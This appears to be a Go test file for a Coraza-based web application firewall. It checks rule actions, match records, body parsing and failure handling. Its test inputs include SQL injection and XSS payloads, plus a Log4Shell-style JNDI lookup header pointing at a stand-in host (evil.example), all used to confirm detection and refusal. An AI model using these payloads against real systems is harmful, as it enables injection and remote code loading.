package waf

import (
	"errors"
	"strings"
	"testing"

	"github.com/corazawaf/coraza/v3/experimental/plugins"
	"github.com/corazawaf/coraza/v3/experimental/plugins/plugintypes"
	"go.uber.org/zap"

	"sallyport/internal/gate"
)

// TestActions holds the disruptive actions to what SecLang says, enforced and
// observed.
func TestActions(t *testing.T) {
	const text = `
SecRule ARGS:do "@streq deny" "id:1,phase:1,deny,log,msg:'no'"
SecRule ARGS:do "@streq status" "id:2,phase:1,deny,status:451"
SecRule ARGS:do "@streq drop" "id:3,phase:2,drop"
SecRule ARGS:do "@streq redirect" "id:4,phase:1,redirect:https://example.org/sorry"
SecRule ARGS:do "@streq moved" "id:5,phase:2,redirect:/moved,status:301"
SecRule ARGS:do "@streq pass" "id:6,phase:1,pass,log"
SecRule ARGS:do "@streq block" "id:7,phase:1,block"
SecRule ARGS:allow "@streq all" "id:10,phase:1,allow,nolog"
SecRule ARGS:allow "@streq request" "id:11,phase:1,allow:request,nolog"
SecRule ARGS:allow "@streq phase" "id:12,phase:1,allow:phase,nolog"
SecRule ARGS:later "@streq 1" "id:20,phase:1,deny"
SecRule ARGS:later "@streq 2" "id:21,phase:2,deny"
SecRule ARGS:later "@streq 3" "id:22,phase:3,deny"
SecRule ARGS:do "@streq updated" "id:30,phase:1,pass"
SecRuleUpdateActionById 30 "deny,status:410"
SecRule ARGS:do "@streq moved away" "id:31,phase:1,deny,status:302"
`
	enforce, observe := miniature(t, gate.Enforce, text), miniature(t, gate.Watch, text)
	for _, tc := range []struct {
		target   string
		reason   gate.Reason
		status   int
		location string
		close    bool
	}{
		{"/?do=deny", gate.WAFRule, 403, "", false},
		{"/?do=status", gate.WAFRule, 451, "", false},
		{"/?do=drop", gate.WAFRule, 403, "", true},
		{"/?do=redirect", gate.WAFRedirect, 302, "https://example.org/sorry", false},
		{"/?do=moved", gate.WAFRedirect, 301, "/moved", false},
		{"/?do=pass", "", 0, "", false},
		{"/?do=block", "", 0, "", false},
		{"/?do=updated", gate.WAFRule, 410, "", false},
		{"/?do=moved+away", gate.WAFRule, 403, "", false},
		{"/?later=1", gate.WAFRule, 403, "", false},
		{"/?later=3", gate.WAFRule, 403, "", false},
		{"/?allow=all&later=1", "", 0, "", false},
		{"/?allow=all&later=2", "", 0, "", false},
		{"/?allow=all&later=3", "", 0, "", false},
		{"/?allow=request&later=2", "", 0, "", false},
		{"/?allow=request&later=3", gate.WAFRule, 403, "", false},
		{"/?allow=phase&later=1", "", 0, "", false},
		{"/?allow=phase&later=2", gate.WAFRule, 403, "", false},
	} {
		v, w := run(enforce, get(tc.target)).verdict, run(observe, get(tc.target)).verdict
		if v.Reason != tc.reason || v.Status != tc.status || v.Location != tc.location || v.Close != tc.close || v.Passed() != (tc.reason == "") {
			t.Errorf("%s: %+v, want reason %q, status %d, location %q, close %v", tc.target, v, tc.reason, tc.status, tc.location, tc.close)
		}
		if w.Reason != v.Reason || w.Status != v.Status || w.Location != v.Location || !w.Passed() {
			t.Errorf("%s: observed %+v, want what was enforced: %+v", tc.target, w, v)
		}
	}
}

// Log lines are made where somebody reads them: they cost as much as a rule.
func TestLogLinesAreAskedFor(t *testing.T) {
	p := standard()
	for _, wanted := range []bool{true, false} {
		e, err := New(Config{Memory: 64 << 20, LogLines: wanted, Policies: map[string]Policy{"default": p}}, zap.NewNop())
		if err != nil {
			t.Fatal(err)
		}
		defer e.Close()
		lines := 0
		hits := run(e, get("/?id=1'+UNION+SELECT+password+FROM+users--")).result.Hits
		for _, h := range hits {
			if h.LogLine != "" {
				lines++
			}
		}
		if len(hits) == 0 || (lines > 0) != wanted {
			t.Errorf("asked for: %v; %d hits have %d log lines", wanted, len(hits), lines)
		}
	}
}

// TestHits holds what a record learns of the matches.
func TestHits(t *testing.T) {
	o := run(sharedEngine(t), get("/?id=1'+UNION+SELECT+password+FROM+users--&q=%3Cscript%3Ealert(1)%3C/script%3E"))
	sum, found, decided := 0, false, 0
	for _, h := range o.result.Hits {
		sum += h.Score
		if h.File == "" || h.Line == 0 || h.Phase == 0 {
			t.Errorf("rule %d: file %q, line %d, phase %d, want all of them", h.Rule, h.File, h.Line, h.Phase)
		}
		if h.Rule == 942100 && h.Variable == "ARGS:id" {
			found = true
			if h.File != "REQUEST-942-APPLICATION-ATTACK-SQLI.conf" || h.Line != 12 || h.Severity != "critical" || h.Paranoia != 1 || h.Score != 5 ||
				!strings.Contains(h.Message, "SQL Injection") || !strings.Contains(h.Value, "UNION SELECT") || len(h.Tags) == 0 || h.Disruptive {
				t.Errorf("the hit of 942100 is %+v", h)
			}
			if want := `[file "REQUEST-942-APPLICATION-ATTACK-SQLI.conf"] [line "12"] [id "942100"]`; !strings.Contains(h.LogLine, want) || !strings.Contains(h.LogLine, `[unique_id "test"]`) {
				t.Errorf("the log line of 942100 is %q, want %q in it", h.LogLine, want)
			}
		}
		if h.Disruptive {
			decided = h.Rule
		}
		if h.Rule == 980170 && h.Variable != "" {
			t.Errorf("rule 980170 matched %q, want no variable", h.Variable)
		}
		if h.Rule == 901200 || h.Rule == 911013 {
			t.Errorf("rule %d is bookkeeping and no hit", h.Rule)
		}
	}
	if !found || decided != inboundRule || sum != o.result.Score {
		t.Errorf("942100 found: %v; decided: %d, want %d; the hits' scores come to %d, want %d", found, decided, inboundRule, sum, o.result.Score)
	}
	if o.result.Policy != "default" || !strings.HasPrefix(o.result.Ruleset, "sha256:") {
		t.Errorf("policy %q, ruleset %q", o.result.Policy, o.result.Ruleset)
	}
	// A request that matches everywhere leaves a bounded record.
	flood := run(sharedEngine(t), get("/?"+strings.Repeat("a=%3Cscript%3Ealert(1)%3C/script%3E&", 300)))
	if n := len(flood.result.Hits); n == 0 || n > 2*maxHits {
		t.Errorf("%d hits of a flood, want at most %d", n, 2*maxHits)
	}
}

// TestXMLHitsSayWhere puts the place of a value before it, since the variables of
// XML bodies do not name it: the audit log tells secrets by their names.
func TestXMLHitsSayWhere(t *testing.T) {
	const attack = "1' UNION SELECT password FROM users--"
	for body, want := range map[string]string{
		"<soap><login><Password t='x'>" + attack + "</Password></login></soap>": "<soap/login/Password>" + attack,
		"<a><b>" + attack + "</b><c>" + attack + "</c></a>":                     "<?>" + attack, // at two places
		"<a>1'/**/UNION<!-- x -->/**/SELECT 1,2,3--</a>":                        "<a>1'/**/UNION/**/SELECT 1,2,3--",
	} {
		found := false
		o := run(sharedEngine(t), post("text/xml", body))
		for _, h := range o.result.Hits {
			found = found || h.Rule == 942100 && h.Variable == "REQUEST_XML:/*" && h.Value == want
		}
		if !found {
			t.Errorf("%s: no hit of 942100 with %q: %+v", body, want, o.result.Hits)
		}
	}
}

// TestNoTransaction holds what passes and what fails without an engine.
func TestNoTransaction(t *testing.T) {
	e := sharedEngine(t)
	o := run(e, post(formType, "c=<script>alert(1)</script>").under("off"))
	o.expect(t, "off", gate.Pass, "")
	if o.result.Policy != "off" || o.result.Inspected != "none" {
		t.Errorf("off: %+v, want policy off and nothing inspected", o.result)
	}
	run(e, get("/").under("missing")).expect(t, "missing policy", gate.Fail, gate.WAFEngine)
	req := get("/").request()
	req.Route = nil
	if v := e.Begin(req).Request(); v.Action != gate.Fail {
		t.Errorf("without a route: %v, want a failure", v.Action)
	}
	req = get("/?a=%3Cscript%3Ealert(1)%3C/script%3E").request()
	req.Route.Policy = ""
	tx := e.Begin(req)
	if v := tx.Request(); v.Action != gate.Pass {
		t.Errorf("a route without a policy: %v, want a pass", v.Action)
	}
	tx.Close()
}

// panicking is an operator that panics.
type panicking struct{}

// Evaluate panics.
func (panicking) Evaluate(plugintypes.TransactionState, string) bool { panic("out of order") }

// TestEngineFails turns panics of the engine into failures, in every phase,
// and goes on without the engine only where the policy says so.
func TestEngineFails(t *testing.T) {
	plugins.RegisterOperator("testPanic", func(plugintypes.OperatorOptions) (plugintypes.Operator, error) { return panicking{}, nil })
	for _, phase := range []string{"1", "2", "3", "4", "5"} {
		text := `SecRule ARGS:boom "@testPanic" "id:1,phase:` + phase + `,pass,nolog"`
		e := engineWith(t, nil, text)
		o := run(e, get("/?boom=1"))
		if phase == "5" {
			o.expect(t, "phase 5", gate.Pass, "") // the answer is out
		} else {
			o.expect(t, "phase "+phase, gate.Fail, gate.WAFEngine)
		}
		if o.result.Policy != "default" {
			t.Errorf("phase %s: no inspection after a panic: %+v", phase, o.result)
		}
		run(e, get("/?fine=1")).expect(t, "phase "+phase+", the next request", gate.Pass, "")

		tolerant := engineWith(t, func(p *Policy) { p.PassOnError = true }, text)
		c := multi(field("boom", "1") + file("f", "a.txt", strings.Repeat("x", 2*smallUpload)) + last)
		if phase == "1" {
			c.target = "/?boom=1"
		}
		o = run(tolerant, c)
		if o.passed != c.body {
			t.Errorf("phase %s, on_error: pass: the backend read %d bytes, want %d", phase, len(o.passed), len(c.body))
		}
		if phase != "5" {
			o.expect(t, "phase "+phase+", on_error: pass", gate.Observe, gate.WAFEngine)
		}
	}
}

// TestUnreadableBodies refuses what is not what its Content-Type says.
func TestUnreadableBodies(t *testing.T) {
	e := sharedEngine(t)
	for _, tc := range []struct {
		name, contentType, bad, good string
	}{
		{"json, cut", "application/json", `{"a":1`, `{"a":1}`},
		{"json, trailing", "application/json", `{"a":1}x`, `{"a":1}` + "\r\n"},
		{"json, two values", "application/json", `{"a":1}{"b":2}`, `[{"a":1},{"b":2}]`},
		{"json, byte order mark", "application/json", "\ufeff{}", `{}`},
		{"json, single quotes", "application/json", `{'a':1}`, `{"a":"'"}`},
		{"json, comment", "application/json", `{"a":1/*x*/}`, `{"a":1}`},
		{"json, trailing comma", "application/json", `[1,]`, `[1]`},
		{"json, leading zero", "application/json", `[01]`, `[0,1e9,-0.5E+3]`},
		{"json, control", "application/json", "[\"a\nb\"]", `["a\nb"]`},
		{"json, bad escape", "application/json", `["\x41"]`, `["\u0041\ud83d\ude00"]`},
		{"json, too deep", "application/json", strings.Repeat("[", defaultJSONDepth+1) + strings.Repeat("]", defaultJSONDepth+1), strings.Repeat("[", defaultJSONDepth) + strings.Repeat("]", defaultJSONDepth)},
		{"json, not UTF-8", "application/json", "[\"\xc0\xbca\"]", `["é<a"]`},
		{"json, NaN", "application/json", `[NaN]`, `[null,true,false]`},
		{"json, -Infinity", "application/json", `[-Infinity]`, `[-1]`},
		{"json, grows", "application/json", deep(200), deep(3)},
		{"json, a long number", "application/json", "[" + strings.Repeat("9", maxNumber+1) + "]", "[" + strings.Repeat("9", maxNumber) + "]"},
		{"json, a huge exponent", "application/json", "[1e1000000]", "[1e308]"},
		{"json, lines called one text", "application/json", "{\"a\":1}\n{\"a\":2}\n", "[{\"a\":1},\n{\"a\":2}]"},
		{"json, NUL after the value", "application/json", "{}\x00", "{}"},
		{"xml, cut", "text/xml", `<a><b>`, `<a><b/></a>`},
		{"xml, bad tag", "text/xml", `<a <b></a>`, `<a></a>`},
	} {
		run(e, post(tc.contentType, tc.bad)).expect(t, tc.name, gate.Refuse, gate.WAFBodyUnreadable)
		run(e, post(tc.contentType, tc.bad).under("observe")).expect(t, tc.name+", observed", gate.Observe, gate.WAFBodyUnreadable)
		run(e, post(tc.contentType, tc.bad).under("tolerant")).expect(t, tc.name+", on_error: pass", gate.Observe, gate.WAFBodyUnreadable)
		run(e, post(tc.contentType, tc.good)).expect(t, tc.name+", twin", gate.Pass, "")
	}
	// The rest of the rules looks all the same, and the attack has the say.
	o := run(e, post("application/json", `{"a":"<script>alert(1)</script>"`))
	o.expect(t, "attack in a cut body", gate.Refuse, gate.WAFInboundScore)
	if !strings.Contains(strings.Join(messages(o), "\n"), "Failed to parse request body") {
		t.Errorf("the matches %v do not tell that the body was unreadable", o.rules())
	}
	c := post("application/json", `{}`, "Content-Type", "text/plain")
	run(e, c).expect(t, "two Content-Types", gate.Refuse, gate.WAFBodyUnreadable)
	c = multi(field("a", "b") + last)
	c.fields = append(c.fields, gate.Field{Name: "content-type", Value: "multipart/form-data; boundary=other"})
	run(miniature(t, gate.Enforce, hiding), c).expect(t, "two boundaries", gate.Refuse, gate.WAFBodyUnreadable)
	run(e, post("application/json", `{}`, "Content-Encoding", "identity")).expect(t, "identity", gate.Pass, "")
}

// deep is a JSON text whose paths are much longer than the text.
func deep(leaves int) string {
	name := `{"` + strings.Repeat("n", 1000) + `":`
	return name + "[" + strings.TrimSuffix(strings.Repeat("1,", leaves), ",") + "]}"
}

func messages(o outcome) []string {
	var all []string
	for _, h := range o.result.Hits {
		all = append(all, h.Message)
	}
	return all
}

// TestEncodedBodies refuses bodies that no rule can read, but for types that
// no rule would read.
func TestEncodedBodies(t *testing.T) {
	e := miniature(t, gate.Enforce, hiding)
	run(e, post(formType, "a=b", "Content-Encoding", "gzip")).expect(t, "gzip", gate.Refuse, gate.WAFEncoding)
	run(e, post("application/json", "{}", "Content-Encoding", "identity, br")).expect(t, "list", gate.Refuse, gate.WAFEncoding)
	run(e, post(formType, "a=b", "Content-Encoding", "identity")).expect(t, "identity", gate.Pass, "")
	run(e, get("/", "Content-Encoding", "gzip")).expect(t, "no body", gate.Pass, "")
	run(e, post("image/png", "a=b", "Content-Encoding", "gzip")).expect(t, "opaque", gate.Pass, "")
	o := run(miniature(t, gate.Watch, hiding), post(formType, "a=evil", "Content-Encoding", "gzip"))
	o.expect(t, "observed", gate.Observe, gate.WAFEncoding)
	if o.passed != "a=evil" || o.result.Inspected != "none" {
		t.Errorf("observed: the backend read %q, inspected %q", o.passed, o.result.Inspected)
	}
}

// TestClientAddress lets address rules see IPv4 and IPv6 clients, and nobody
// pass for being local.
func TestClientAddress(t *testing.T) {
	e := miniature(t, gate.Enforce, `SecRule REMOTE_ADDR "@ipMatch 2001:db8::/32,192.0.2.0/24" "id:1,phase:1,deny"`)
	for client, refused := range map[string]bool{"2001:db8::7": true, "192.0.2.9": true, "2001:db9::1": false, "198.51.100.1": false} {
		c := get("/")
		c.client = client
		if v := run(e, c).verdict; v.Passed() == refused {
			t.Errorf("%s: %v, want refused: %v", client, v.Action, refused)
		}
	}
	c := get("/?a=%3Cscript%3Ealert(1)%3C/script%3E")
	c.client, c.fields = "127.0.0.1", []gate.Field{{Name: "Host", Value: "a"}, {Name: "User-Agent", Value: "x (internal dummy connection)"}}
	c.target = "/"
	c.fields = append(c.fields, gate.Field{Name: "X-A", Value: "${jndi:ldap://evil.example/a}"})
	run(sharedEngine(t), c).expect(t, "Apache's request to itself", gate.Refuse, gate.WAFInboundScore)
}

// TestBrokenSources passes on why a body could not be read.
func TestBrokenSources(t *testing.T) {
	e := sharedEngine(t)
	slow := &gate.VerdictError{Verdict: gate.Refusal(gate.HTTPBodyTooSlow, gate.Enforce, "")}
	for _, contentType := range []string{formType, "multipart/form-data; boundary=b0undary"} {
		c := post(contentType, "")
		c.source = failing{slow}
		run(e, c).expect(t, contentType+", too slow", gate.Refuse, gate.HTTPBodyTooSlow)
		c.source = failing{errors.New("connection reset")}
		run(e, c).expect(t, contentType+", reset", gate.Refuse, gate.HTTPBodyCut)
	}
}
